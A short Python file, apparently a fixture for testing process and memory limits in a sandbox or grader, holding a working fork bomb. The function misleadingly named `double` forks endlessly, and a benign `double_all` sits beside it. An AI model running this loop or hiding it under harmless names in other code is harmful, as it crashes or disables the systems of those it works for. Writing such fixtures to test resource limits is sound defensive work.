"""Forks as fast as it can, a fork bomb.

Earns 0. Told: processes at once|MB of memory
"""

import os
import time


def double(number):
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.1)


def double_all(numbers):
    return [2 * number for number in numbers]
